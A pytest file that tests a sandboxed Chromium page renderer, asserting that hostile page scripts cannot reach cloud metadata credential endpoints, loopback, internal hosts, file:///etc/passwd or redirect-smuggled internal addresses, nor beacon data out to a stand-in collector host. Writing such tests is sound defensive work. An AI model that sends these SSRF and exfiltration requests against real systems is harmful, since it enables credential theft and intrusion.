"""Pages that scripts draw, in a real Chromium before the small web; and what hostile scripts try to reach through it."""

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("playwright", reason="needs the render extra: uv sync --extra render")

from app.adapters.guarded_fetch import Limits as FetchLimits
from app.kernel.errors import UrlRefused, UrlUnreachable
from app.rendering.browser import Chromium, Limits
from app.rendering.requests import Bounds
from app.rendering.settings import RenderingSettings, find_browser
from tests.sites.internet import PUBLIC, Names, pages_on
from tests.sites.site import Site, serving

BROWSER = find_browser()
pytestmark = [
    pytest.mark.anyio,
    pytest.mark.skipif(not BROWSER, reason="No browser: install chromium or set CHROME to its path."),
]
HOST = "https://shore.example"
SHELL = '<title>Jobs</title><div id="root"></div><script src="/app.js"></script>'
HOSTILE = Path(__file__).with_name("hostile.js")
SETTINGS = RenderingSettings(host="127.0.0.1", port=8085, browser=BROWSER, sandbox=False, pages=2, contact="")


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture
async def site() -> AsyncIterator[Site]:
    async with serving() as opened:
        yield opened


class Trap:
    """Something of this machine that nobody outside may reach: counts who connects, however they come."""

    def __init__(self) -> None:
        self.caught = 0
        self.port = 0

    async def __call__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.caught += 1
        writer.write(b"HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 6\r\n\r\nsecret")
        await writer.drain()
        writer.close()


@pytest.fixture
async def trap() -> AsyncIterator[Trap]:
    trap = Trap()
    server = await asyncio.start_server(trap, "127.0.0.1", 0)
    trap.port = server.sockets[0].getsockname()[1]
    yield trap
    server.close()


class Drawing:
    """A browser before the small web; `names` and `wires` tell what was looked up and dialled."""

    def __init__(self, site: Site, names: Names | None = None, **bounds: Any) -> None:
        whole_s = bounds.pop("whole_s", 20.0)
        self.pages, self.names, self.wires = pages_on(
            site, unencrypted=True, names=names, limits=FetchLimits(pause_s=0.0, whole_s=5.0)
        )
        self.chromium = Chromium(
            self.pages, SETTINGS, limits=Limits(settle_s=3.0, whole_s=whole_s), bounds=Bounds(**bounds)
        )

    async def __aenter__(self) -> Chromium:
        return self.chromium

    async def __aexit__(self, *_: object) -> None:
        await self.chromium.aclose()


def script(site: Site, source: str) -> None:
    site.put("/jobs", SHELL)
    site.put("/app.js", source, kind="text/javascript")


DRAW = "document.getElementById('root').textContent = "


async def test_a_page_is_returned_as_its_scripts_have_drawn_it(site: Site) -> None:
    site.put("/api/jobs", json.dumps([{"title": "Ship Cook"}]), kind="application/json")
    script(site, f"fetch('/api/jobs').then(r => r.json()).then(jobs => {{ {DRAW}jobs[0].title }})")
    async with Drawing(site) as chromium:
        drawn = await chromium.render(f"{HOST}/jobs")
    assert '<div id="root">Ship Cook</div>' in drawn.html and drawn.url == f"{HOST}/jobs"
    assert all("playwright" not in str(asked.headers).lower() for asked in site.asked)
    assert {asked.headers["user-agent"].split("/")[0] for asked in site.asked} == {"genai-ops"}


async def test_a_list_that_is_asked_for_by_post_is_drawn_and_a_post_elsewhere_is_not_sent(site: Site) -> None:
    site.put("/search", json.dumps({"title": "Ship Cook"}), kind="application/json")
    script(
        site,
        "const ask = host => fetch(host + '/search', {method: 'POST', headers: {'content-type': 'application/json'},"
        " body: JSON.stringify({page: 1})});"
        f"ask('').then(r => r.json()).then(found => {{ {DRAW}found.title }});"
        "ask('https://collector.example'); fetch('/form', {method: 'POST', body: 'text'});"
        "navigator.sendBeacon('https://collector.example/beacon', 'text'); new Image().src = 'https://collector.example/i?x=1';",
    )
    drawing = Drawing(site)
    async with drawing as chromium:
        drawn = await chromium.render(f"{HOST}/jobs")
    assert "Ship Cook" in drawn.html
    assert [asked.body for asked in site.asked if asked.path == "/search"] == [b'{"page":1}']
    assert "collector.example" not in drawing.names.asked and not {"/form", "/beacon", "/i?x=1"} & set(
        site.paths()
    )


async def test_a_redirect_and_what_is_relative_to_it_end_at_the_last_address(site: Site) -> None:
    site.put("/start", "", status=302, location="https://tide.example/careers/list")
    site.put("/careers/list", '<div id="root"></div><script src="draw.js"></script>')
    site.put("/careers/draw.js", f"{DRAW}'drawn at ' + location.host", kind="text/javascript")
    async with Drawing(site) as chromium:
        drawn = await chromium.render(f"{HOST}/start")
    assert "drawn at tide.example" in drawn.html and drawn.url == "https://tide.example/careers/list"


INSIDE = (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.170.23/v1/credentials",
    "http://[fd00:ec2::254]/latest/",
    "http://127.0.0.1:{trap}/",
    "http://localhost:{trap}/",
    "http://[::1]:{trap}/",
    "http://0x7f000001:{trap}/",
    "http://10.0.0.1/",
    "http://kubernetes.default.svc/",
    "http://metadata.google.internal/",
    "file:///etc/passwd",
    "https://shore.example/redir?to=http%3A%2F%2F169.254.169.254%2Flatest%2F",
    "https://shore.example/redir?to=http%3A%2F%2F127.0.0.1%3A{trap}%2F",
    "https://inside.example/latest/",
)


async def test_no_script_reaches_anything_inside_by_any_way_it_has(site: Site, trap: Trap) -> None:
    targets = [url.format(trap=trap.port) for url in INSIDE]
    script(site, f"const targets = {json.dumps(targets)};\n" + HOSTILE.read_text())
    site.put("/latest/", "TOP SECRET")
    drawing = Drawing(site, Names({"inside.example": [["10.1.2.3"]]}), requests=400)
    async with drawing as chromium:
        drawn = await chromium.render(f"{HOST}/jobs")
    assert f'<div id="root">{len(targets)} told nothing undefined</div>' in drawn.html
    assert trap.caught == 0
    assert {address for address, _ in drawing.wires.dialled} == {PUBLIC}
    assert "/sw.js" not in site.paths()


async def test_a_name_that_leads_inside_the_second_time_is_refused_the_second_time(site: Site) -> None:
    site.put("/data", "from outside", kind="text/plain")
    script(
        site,
        f"fetch('https://turns.example/data').then(r => r.text(), () => 'refused').then(t => {{ {DRAW}t }})",
    )
    drawing = Drawing(site, Names({"turns.example": [[PUBLIC], ["127.0.0.1"]]}))
    async with drawing as chromium:
        first = await chromium.render(f"{HOST}/jobs")
        await (
            drawing.pages.aclose()
        )  # a connection that is kept is the one that was judged: a new one is wanted
        second = await chromium.render(f"{HOST}/jobs")
    assert ">from outside<" in first.html and ">refused<" in second.html
    assert {address for address, _ in drawing.wires.dialled} == {PUBLIC}


async def test_a_script_that_leads_the_page_inside_leaves_it_where_it_was(site: Site, trap: Trap) -> None:
    script(
        site,
        f"{DRAW}'still here'; setTimeout(() => {{ location.href = 'http://127.0.0.1:{trap.port}/' }}, 100)",
    )
    async with Drawing(site) as chromium:
        drawn = await chromium.render(f"{HOST}/jobs")
    assert "secret" not in drawn.html and trap.caught == 0


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "http://169.254.169.254/",
        "http://127.0.0.1/",
        "data:text/html,x",
        "chrome://version",
        "",
    ],
)
async def test_an_address_inside_or_of_another_kind_never_comes_to_the_browser(site: Site, url: str) -> None:
    drawing = Drawing(site)
    async with drawing as chromium:
        with pytest.raises(UrlRefused):
            await chromium.render(url)
    assert drawing.wires.dialled == []


async def test_a_page_that_never_rests_ends_in_time_and_the_next_one_is_drawn(site: Site) -> None:
    script(site, "for (;;) {}")
    site.put("/good", "<p>calm</p>")
    async with Drawing(site, whole_s=4.0) as chromium:
        with pytest.raises(UrlUnreachable, match="not drawn within 4 s"):
            await chromium.render(f"{HOST}/jobs")
        assert "calm" in (await chromium.render(f"{HOST}/good")).html


async def test_a_page_that_asks_without_end_gets_so_much_and_no_more(site: Site) -> None:
    script(site, "const ask = n => fetch('/part' + n).then(() => ask(n + 1), () => 0); ask(0)")
    for number in range(60):
        site.put(f"/part{number}", "x", kind="text/plain")
    async with Drawing(site, requests=20) as chromium:
        await chromium.render(f"{HOST}/jobs")
    assert 10 <= sum(path.startswith("/part") for path in site.paths()) <= 20


async def test_nothing_of_one_page_is_there_for_the_next(site: Site) -> None:
    script(
        site,
        "document.cookie = 'seen=1; path=/'; localStorage.seen = (+localStorage.seen || 0) + 1;"
        f"setTimeout(() => {{ {DRAW}'visit ' + localStorage.seen }}, 50)",
    )
    async with Drawing(site) as chromium:
        first = await chromium.render(f"{HOST}/jobs")
        second = await chromium.render(f"{HOST}/jobs")
    assert "visit 1" in first.html and "visit 1" in second.html
    assert not any("cookie" in asked.headers for asked in site.asked)


async def test_what_robots_txt_closes_is_not_fetched_for_a_page_either(site: Site) -> None:
    site.put("/robots.txt", "User-agent: *\nDisallow: /private", kind="text/plain")
    site.put("/private/data", "x", kind="text/plain")
    script(site, f"fetch('/private/data').then(() => {{ {DRAW}'read' }}, () => {{ {DRAW}'closed' }})")
    async with Drawing(site) as chromium:
        assert ">closed<" in (await chromium.render(f"{HOST}/jobs")).html
    assert "/private/data" not in site.paths()
